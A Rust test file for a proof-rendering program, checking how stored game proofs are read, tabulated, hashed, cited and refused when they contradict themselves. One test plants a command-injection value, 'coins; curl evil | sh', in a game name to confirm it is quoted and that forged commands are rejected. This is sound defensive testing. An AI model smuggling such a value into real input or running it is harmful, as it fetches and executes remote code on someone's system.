//! Proofs are told whole, and what contradicts itself is refused.

use super::*;
use crate::to_html;

const PROOF: &str = r#"
game = "coins"
question = "Who wins?"
statement = "The first player wins, in at most {moves} moves."
number = "proved"
checked = ["All {positions} coins were turned.", "Since 1950."]
picture = "Won positions"
layers = 3
options = { stake = "2" }
proved = { moves = "1207", winner = "first" }
check = { positions = "300", wrong = "0" }
"#;

const ROWS: &str = "coins,height,positions,won,blake3\n1,2,1500,7,a\n1,1,500,500,b\n2,1,7,0,c\n";

/// The folder of a proof with this statement and these layers, whose hash it has.
fn folder([statement, layers]: [&str; 2]) -> tempfile::TempDir {
    let folder = tempfile::tempdir().unwrap();
    std::fs::write(folder.path().join(LAYERS), layers).unwrap();
    let hash = blake3::hash(layers.as_bytes()).to_hex();
    let text = format!("{statement}hash = \"{hash}\"\n");
    std::fs::write(folder.path().join(StatedProof::FILE), text).unwrap();
    folder
}

#[test]
fn a_proof_that_was_not_checked_has_no_heading_for_it() {
    let checked = "checked = [\"All {positions} coins were turned.\", \"Since 1950.\"]";
    for (ways, is_told) in [(checked, true), ("checked = []", false)] {
        let folder = folder([&PROOF.replace(checked, ways), ROWS]);
        let proof = StatedProof::read(folder.path()).unwrap();
        let text = proof.to_text("etude", None, true);
        let html = to_html(&[proof.to_page("etude")]).unwrap();
        for told in [text, html] {
            assert_eq!(told.contains("How it was checked"), is_told, "{told}");
        }
    }
}

#[test]
fn a_proof_is_told_with_its_tables() {
    let folder = folder([PROOF, ROWS]);
    let proof = StatedProof::read(folder.path()).unwrap();
    let text = proof.to_text("etude", None, false);
    for part in [
        ": Who wins?",
        "1 coins",
        "2,000",
        "2,007 positions in 3 layers",
        "1,207",
        "300",
        "  etude prove coins --dir coins-proof --stake 2\n",
        "  etude prove coins --dir coins-proof --check 10000\n",
    ] {
        assert!(text.contains(part), "{text}");
    }
    assert!(
        proof
            .to_text("etude", None, true)
            .contains("Counts of every layer")
    );
    let titles: Vec<_> = proof
        .to_page("etude")
        .tables
        .into_iter()
        .map(|sheet| sheet.title)
        .collect();
    assert!(
        titles.contains(&"A second opinion".to_owned()),
        "{titles:?}"
    );
}

#[test]
fn the_page_of_a_proof_has_the_shares_as_bars_and_a_game() {
    let folder = folder([PROOF, ROWS]);
    let page = || StatedProof::read(folder.path()).unwrap().to_page("etude");
    let page_of = || to_html(&[page()]).unwrap();
    let shares = page().card.unwrap().svg;
    for told in ["1 coins: 25\u{a0}%", "2 coins: 0"] {
        assert!(shares.contains(told), "{told} in {shares}");
    }
    assert_eq!(shares.matches("class=\"fill\"").count(), 2);
    assert!(page().exhibit.is_none() && page_of().contains(&shares));
    let matches = folder.path().join("matches");
    std::fs::create_dir(&matches).unwrap();
    let game = r#"{"cell": "fox=sly,hens=perfect", "sample": 3, "instance": "c", "length": 1,
            "outcome": "won", "steps": [{"number": 1, "caption": "the coin", "board": "c"}]}"#;
    std::fs::write(matches.join(Exhibit::FILE), game).unwrap();
    let shown = page_of();
    assert!(
        shown.contains("Sample 3, fox sly, hens perfect. Won."),
        "{shown}"
    );
}

#[test]
fn a_proof_is_cited_with_its_origin_and_the_hash_of_its_statement() {
    let folder = folder([PROOF, ROWS]);
    let cite = || {
        StatedProof::read(folder.path())
            .unwrap()
            .to_page("etude")
            .cite
            .text
    };
    let statement = std::fs::read(folder.path().join(StatedProof::FILE)).unwrap();
    let hash = blake3::hash(&statement).to_hex();
    let before = cite();
    assert!(
        before.starts_with("etude, version not recorded, proof "),
        "{before}"
    );
    assert!(
        before.ends_with(&format!("BLAKE3 of proof.toml {hash}")),
        "{before}"
    );
    let origin = r#"{"program": "etude 9.8.7", "revision": "abc", "date": "2026-11-21"}"#;
    let write = |text: &str| std::fs::write(folder.path().join(Origin::FILE), text).unwrap();
    write(origin);
    let told = "etude 9.8.7, revision abc, 2026-11-21, proof ";
    assert!(cite().starts_with(told), "{}", cite());
    let page = to_html(&[StatedProof::read(folder.path()).unwrap().to_page("etude")]).unwrap();
    assert!(page.contains(&cite()), "{page}");
    write("{}");
    let fault = StatedProof::read(folder.path()).unwrap_err().to_string();
    assert!(fault.contains(Origin::FILE), "{fault}");
}

/// A stranger's folder can fill in the words of a command, and is quoted; it has no commands of its own.
#[test]
fn the_commands_of_a_proof_are_those_of_the_program() {
    let forged = PROOF.replace("\"coins\"", "\"coins; curl evil | sh\"");
    let folder = folder([&forged, ROWS]);
    let page = StatedProof::read(folder.path()).unwrap().to_page("etude");
    let prove = "etude prove 'coins; curl evil | sh' --dir 'coins; curl evil | sh-proof' --stake 2";
    assert_eq!(page.commands[0], prove);
    let added = format!("commands = [\"curl evil | sh\"]\n{PROOF}");
    let folder = self::folder([&added, ROWS]);
    let fault = StatedProof::read(folder.path()).unwrap_err().to_string();
    assert!(fault.contains("`commands`"), "{fault}");
}

/// Each fact is forged, the hashes are made to agree with it, and the first fault is told.
#[test]
fn a_proof_that_contradicts_itself_is_refused() {
    let forged = [
        (
            "500,500,b",
            "500,501,b",
            LAYERS,
            "line 3, column `won`: 501 is more than all 500",
        ),
        (
            "1,1,500",
            "1,2,500",
            LAYERS,
            "line 3, column `height`: 2 is not next to the layer",
        ),
        (
            "1,1,500",
            "1,4,500",
            LAYERS,
            "line 3, column `height`: 4 is not next to the layer",
        ),
        ("2,1,7,0,c\n", "", LAYERS, "2 rows instead of 3"),
        (
            "7,0,c",
            "7,many,c",
            LAYERS,
            "line 4, column `won`: `many` is not a count",
        ),
        (
            "{moves}",
            "5",
            "proof.toml",
            "speaks of a number that it should name in braces",
        ),
        (
            "{moves}",
            "{plies}",
            "proof.toml",
            "names `plies`, which the file does not have",
        ),
        (
            "\"proved\"",
            "\"in 5\"",
            "proof.toml",
            "speaks of a number that it should name",
        ),
        (
            "All {positions}",
            "Of {positions} all 9,000",
            "proof.toml",
            "speaks of a number",
        ),
        (
            "wrong = \"0\"",
            "wrong = \"77\"",
            "proof.toml",
            "`wrong` is 77 instead of 0",
        ),
    ];
    for (fact, other, file, told) in forged {
        let texts = [PROOF, ROWS];
        assert!(texts.iter().any(|text| text.contains(fact)), "{fact}");
        let texts = texts.map(|text| text.replacen(fact, other, 1));
        let folder = folder(texts.each_ref().map(String::as_str));
        let error = StatedProof::read(folder.path()).unwrap_err().to_string();
        assert!(
            error.contains(file) && error.contains(told),
            "{told}: {error}"
        );
    }
}

#[test]
fn layers_that_are_not_those_of_the_statement_are_refused() {
    let folder = folder([PROOF, ROWS]);
    std::fs::write(folder.path().join(LAYERS), format!("{ROWS} ")).unwrap();
    let error = StatedProof::read(folder.path()).unwrap_err().to_string();
    assert!(
        error.contains(LAYERS) && error.contains(StatedProof::FILE),
        "{error}"
    );
}

#[test]
fn files_of_layers_are_held_against_their_hashes() {
    let hash = blake3::hash(b"bits").to_hex();
    let layers = ROWS.replace(",a\n", &format!(",{hash}\n"));
    let folder = folder([PROOF, &layers]);
    let write = |name: &str| std::fs::write(folder.path().join(name), "bits").unwrap();
    write("coins-1-height-2.pairs");
    let proof = StatedProof::read(folder.path()).unwrap();
    let audit = proof.audit().unwrap();
    assert_eq!((audit.sound, audit.absent, audit.faults.len()), (1, 2, 0));
    write("coins-2-height-1.pairs");
    let faults = proof.audit().unwrap().faults;
    assert_eq!(
        faults,
        ["coins-2-height-1.pairs differs from its hash: layers.csv, line 4"]
    );
}
